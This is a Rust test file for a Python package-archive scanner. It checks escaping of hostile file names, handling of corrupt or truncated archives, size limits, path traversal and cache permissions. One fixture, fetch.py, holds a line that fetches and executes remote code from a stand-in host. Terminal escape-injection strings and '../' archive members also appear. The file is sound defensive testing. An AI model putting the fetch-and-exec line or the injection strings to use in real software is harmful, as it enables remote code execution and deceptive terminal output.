//! What hostile archives and hostile names may not do to the one who scans them.

use std::os::unix::fs::MetadataExt;

use serde_json::Value;

use crate::harness::{
    HOLD, METADATA, Run, SETUP, World, cache, copy, deflated, listing, rules, sdist, tar_gz, wheel, zip,
};

/// ESC, a bidi override, a C1 control, a newline: everything that makes a terminal or a log say something else.
const HOSTILE: &str = "x\u{1b}[2J\u{202e}\u{9b}31m\ny";

fn assert_tame(text: &str) {
    let bad = text.chars().find(|character| {
        (character.is_control() && *character != '\n')
            || matches!(u32::from(*character), 0x200b..=0x200f | 0x202a..=0x202e)
    });
    assert_eq!(bad, None, "{text:?}");
}

#[test]
fn hostile_names_reach_no_terminal() {
    let world = World::new();
    let name = format!("{HOSTILE}.tar.gz");
    let member = format!("demo-1.0/{HOSTILE}.py");
    let source = format!("a = '{HOLD}' # {}\n", HOSTILE.replace('\n', ""));
    let archive = tar_gz(&[
        ("demo-1.0/PKG-INFO", METADATA.as_bytes()),
        ("demo-1.0/setup.py", SETUP.as_bytes()),
        (&member, source.as_bytes()),
    ]);
    world.put(&name, &archive);
    world.put(&format!("{HOSTILE}.txt"), b"");
    for format in ["human", "json", "jsonl", "sarif"] {
        let run =
            world.run(&["scan", "--format", format, ".", &format!("none{HOSTILE}.whl"), "--verbose", "--explain"]);
        assert_eq!(run.code, 2);
        assert!(run.stdout.contains("marker-hold"), "{format}: {run:#?}");
        assert_tame(&run.stdout);
        assert_tame(&run.stderr);
    }
    let run = world.run(&["scan", "--format", "jsonl", "."]);
    assert_eq!(run.column("filename"), [name], "a program reads the name as it is");
}

#[test]
fn colours_are_only_for_those_who_see_them() {
    let world = World::new();
    world.put("a-1.0.tar.gz", &sdist(HOLD));
    let colours = |set: &[(&str, &str)], arguments: &[&str]| {
        let mut command = world.bare(&["scan", ".", "--rules", rules().to_str().unwrap()]);
        command.args(arguments).envs(set.iter().copied());
        Run::of(command.output().unwrap()).stdout.contains('\x1b')
    };
    assert!(!colours(&[], &[]), "a pipe is no terminal");
    assert!(colours(&[("CLICOLOR_FORCE", "1")], &[]));
    assert!(!colours(&[("CLICOLOR_FORCE", "1"), ("NO_COLOR", "1")], &[]));
    assert!(colours(&[("NO_COLOR", "1")], &["--color", "always"]));
    assert!(!colours(&[("CLICOLOR_FORCE", "1")], &["--color", "never"]));
}

#[test]
fn what_was_not_read_is_never_clear() {
    let world = World::new();
    let whole = sdist("x = 1");
    world.put("cut-1.0.tar.gz", &whole[..whole.len() - 20]);
    let mut flipped = wheel("x = 1");
    // The first byte of the first member's compressed data, after header, name and extra field: a kind of block that
    // deflate does not have.
    let length = |at: usize| usize::from(u16::from_le_bytes([flipped[at], flipped[at + 1]]));
    let data = 30 + length(26) + length(28);
    flipped[data] |= 0b110;
    world.put("flipped-1.0-py3-none-any.whl", &flipped);
    world.put("noise-1.0.tar.gz", b"\x1f\x8b\x08\x00 this is no deflate stream at all");
    let run = world.run(&["scan", "--format", "jsonl", "."]);
    assert_eq!(run.lines().len(), 3);
    for line in run.lines() {
        assert_ne!(line["outcome"], "clear", "{line:#}");
        assert_eq!(line["coverage"]["complete"], false, "{line:#}");
    }
}

#[test]
fn a_file_that_is_no_archive_is_never_clear_and_says_so() {
    let world = World::new();
    let noise: Vec<u8> = (0..5000_u32).map(|at| (at.wrapping_mul(2_654_435_761) >> 24) as u8 | 1).collect();
    let (sdist, wheel) = (sdist("x = 1"), wheel("x = 1"));
    world.put("empty-1.0.tar.gz", b"");
    world.put("letter-1.0-py3-none-any.whl", b"This is a letter and not a wheel.\n");
    world.put("noise.bin", &noise);
    world.put("cut-1.0-py3-none-any.whl", &wheel[..wheel.len() / 2]);
    world.put("cut-1.0.tar.gz", &sdist[..sdist.len() / 2]);
    for (name, said) in [
        ("empty-1.0.tar.gz", "Not everything could be read: the file is empty"),
        ("letter-1.0-py3-none-any.whl", "Not everything could be read: it is neither an archive nor a Python source"),
        ("noise.bin", "Not everything could be read: it is neither an archive nor a Python source"),
        ("cut-1.0-py3-none-any.whl", "Not everything could be read: no end record with a central directory"),
        ("cut-1.0.tar.gz", "Not everything could be read: the stream ends early"),
    ] {
        // With the rules that everybody has, as everybody runs it.
        let run = Run::of(world.bare(&["scan", "--format", "jsonl", name]).output().unwrap());
        assert_eq!(run.code, 3, "{run:#?}");
        let line = &run.lines()[0];
        assert_eq!((&line["outcome"], &line["summary"]), (&Value::from("incomplete"), &Value::from(said)), "{line:#}");
        assert_eq!(line["coverage"]["complete"], false);
        let told = line["findings"].as_array().unwrap().iter().any(|finding| finding["rule"] == "archive-none");
        assert_eq!(told, !name.starts_with("cut"), "{line:#}");
    }
}

#[test]
fn a_python_file_by_itself_is_judged_as_source() {
    let world = World::new();
    world.put("tool.py", b"print('hello')\n");
    world.put("fetch.py", b"import urllib.request\nexec(urllib.request.urlopen('http://drop.test/a').read())\n");
    let run = Run::of(world.bare(&["scan", "--format", "jsonl", "tool.py", "fetch.py"]).output().unwrap());
    assert_eq!((run.code, run.column("outcome")[0].as_str()), (1, "clear"), "{run:#?}");
    let fetch = &run.lines()[1];
    assert!(matches!(fetch["outcome"].as_str(), Some("review" | "hold")), "{fetch:#}");
    assert!(fetch["summary"].as_str().unwrap().starts_with("On import, fetch.py:2 "), "{fetch:#}");
    assert_eq!((&fetch["findings"][0]["member"], &fetch["findings"][0]["line"]), (&"fetch.py".into(), &2.into()));
}

#[test]
fn more_than_the_limit_is_hashed_and_never_clear() {
    let world = World::new();
    let limited = world.path("rules");
    copy(rules(), &limited);
    std::fs::write(limited.join("limits.toml"), "[archive]\nbytes = 100\n").unwrap();
    let archive = zip(&[("a.py", &vec![b'#'; 4000])], zip::write::SimpleFileOptions::default());
    world.put("big-1.0.zip", &archive);
    let command = ["scan", "--format", "jsonl", ".", "--rules", limited.to_str().unwrap()];
    let run = Run::of(world.bare(&command).output().unwrap());
    let line: &Value = &run.lines()[0];
    assert_eq!((&line["outcome"], run.code), (&Value::from("incomplete"), 3), "{line:#}");
    assert_eq!(line["sha256"], model::Digest::of(&archive).to_string());
    assert_eq!(line["bytes_packed"], archive.len());
}

/// Numbers of a generator: they do not compress, so no ratio speaks against them.
fn noise(bytes: usize) -> Vec<u8> {
    let mut state = 1_u64;
    let mut noise = Vec::with_capacity(bytes);
    while noise.len() < bytes {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        noise.extend_from_slice(&state.to_be_bytes());
    }
    noise
}

#[test]
fn a_large_honest_archive_fits_into_the_memory_of_a_child() {
    let world = World::new();
    let noise = noise(24 << 20);
    let names = ["demo/a.bin", "demo/b.bin", "demo/c.bin", "demo/d.bin"];
    let mut files = names.map(|name| (name, noise.as_slice())).to_vec();
    files.push(("demo/__init__.py", b"x = 1\n"));
    world.put("demo-1.0-py3-none-any.whl", &zip(&files, zip::write::SimpleFileOptions::default()));
    let run = world.run(&["scan", "--format", "jsonl", "."]);
    let line = &run.lines()[0];
    assert!(line["bytes_unpacked"].as_u64().unwrap() > 96 << 20, "{line:#}");
    assert_eq!(line["coverage"]["complete"], true, "{line:#}");
}

#[test]
fn a_large_honest_member_fits_into_the_memory_of_a_child() {
    let world = World::new();
    let mut library = noise(40 << 20);
    library.resize(150 << 20, 0);
    let files: [(&str, &[u8]); 2] = [("demo/library.bin", &library), ("demo/__init__.py", b"x = 1\n")];
    world.put("demo-1.0-py3-none-any.whl", &zip(&files, deflated()));
    let run = world.run(&["scan", "--format", "jsonl", "."]);
    let line = &run.lines()[0];
    assert!(line["bytes_unpacked"].as_u64().unwrap() > 150 << 20, "{line:#}");
    assert_eq!(line["coverage"]["complete"], true, "{line:#}");
}

#[test]
fn nothing_of_an_archive_is_written_to_disk() {
    let world = World::new();
    world.put("a-1.0.tar.gz", &tar_gz(&[("../escape.py", b"x"), ("/absolute.py", b"x"), ("demo/a.py", b"x = 1\n")]));
    let before = listing(world.path("").as_path());
    let mut command = world.gatehouse(&["scan", "."]);
    command.env("TMPDIR", world.path("home"));
    let run = Run::of(command.output().unwrap());
    assert!(run.stdout.contains("a-1.0.tar.gz"), "{run:#?}");
    assert_eq!(listing(world.path("").as_path()), before);
}

#[test]
fn compiled_rules_are_kept_for_this_user_alone_and_a_damaged_copy_costs_nothing() {
    let world = World::new();
    world.put("a-1.0.tar.gz", &sdist(HOLD));
    let first = world.run(&["scan", "--format", "jsonl", "."]);
    let folder = cache().join("gatehouse");
    let kept = listing(&folder);
    assert!(!kept.is_empty());
    for path in &kept {
        let metadata = path.metadata().unwrap();
        assert_eq!(metadata.mode() & 0o077, 0, "{}", path.display());
    }
    let home = world.path("other-cache");
    let run = |damage: Option<&[u8]>| {
        if let Some(damage) = damage {
            for path in listing(&home.join("gatehouse")) {
                std::fs::write(path, damage).unwrap();
            }
        }
        let mut command = world.gatehouse(&["scan", "--format", "jsonl", "."]);
        command.env("XDG_CACHE_HOME", &home);
        Run::of(command.output().unwrap())
    };
    for run in [run(None), run(None), run(Some(b"damaged")), run(Some(b""))] {
        assert_eq!((run.code, run.column("rulebook")), (1, first.column("rulebook")), "{run:#?}");
        assert_eq!(run.stderr, "");
    }
}
